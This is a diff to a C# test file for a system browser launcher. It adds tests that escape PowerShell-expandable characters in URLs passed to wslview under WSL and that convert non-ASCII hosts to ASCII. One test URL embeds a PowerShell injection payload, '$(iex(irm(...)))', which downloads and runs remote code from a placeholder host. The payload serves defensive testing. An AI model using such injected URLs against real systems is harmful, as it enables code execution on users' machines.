@@ -20,6 +20,57 @@ public sealed class SystemBrowserLauncherTests
         Assert.True(candidates.Count > 2, "the platform opener follows $BROWSER");
     }
 
+    /// <summary>
+    /// Under WSL, wslview hands the URL to <c>powershell.exe -Command "Start \"url\""</c>, which expands <c>$name</c> and
+    /// runs <c>$(…)</c> inside it: an authorization server whose endpoint carries one would run code on the Windows host.
+    /// </summary>
+    [Theory]
+    [InlineData(true)]
+    [InlineData(false)]
+    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
+    public async Task Under_WSL_the_opener_gets_the_url_with_nothing_PowerShell_would_expand(bool wsl)
+    {
+        var folder = Directory.CreateTempSubdirectory("o8-wslview-");
+        try
+        {
+            var recorded = Path.Combine(folder.FullName, "url");
+            var opener = Path.Combine(folder.FullName, "wslview");
+            await OpenerEnvironment.WriteScriptAsync(opener, $"printf '%s' \"$1\" > '{recorded}'\n");
+            var launcher = new SystemBrowserLauncher(TextWriter.Null, name => name switch
+            {
+                "BROWSER" => opener,
+                "WSL_DISTRO_NAME" => wsl ? "Ubuntu" : null,
+                _ => Environment.GetEnvironmentVariable(name),
+            });
+            var hostile = new Uri("https://as.example/auth/$(iex(irm('as.example/p')))?tenant=$home&x=`a`&state=abc");
+
+            Assert.True((await launcher.LaunchAsync(hostile, CancellationToken.None)).Launched);
+
+            var got = await File.ReadAllTextAsync(recorded);
+            if (wsl)
+            {
+                Assert.Equal("https://as.example/auth/%24(iex(irm('as.example/p')))?tenant=%24home&x=%60a%60&state=abc", got);
+                Assert.DoesNotContain('$', got);
+                Assert.DoesNotContain('`', got);
+            }
+            else
+            {
+                // Elsewhere no shell stands between the opener and the browser: the URL goes as it is.
+                Assert.Equal(hostile.AbsoluteUri, got);
+            }
+        }
+        finally
+        {
+            folder.Delete(recursive: true);
+        }
+    }
+
+    [Fact]
+    public void A_non_ASCII_host_goes_to_a_WSL_opener_in_its_ASCII_form()
+    {
+        Assert.Equal("https://xn--bcher-kva.example/a?q=%C3%BC%24", WindowsShellUrl.Of(new Uri("https://bücher.example/a?q=ü$")));
+    }
+
     [Fact]
     public async Task A_working_opener_counts_as_launched()
     {
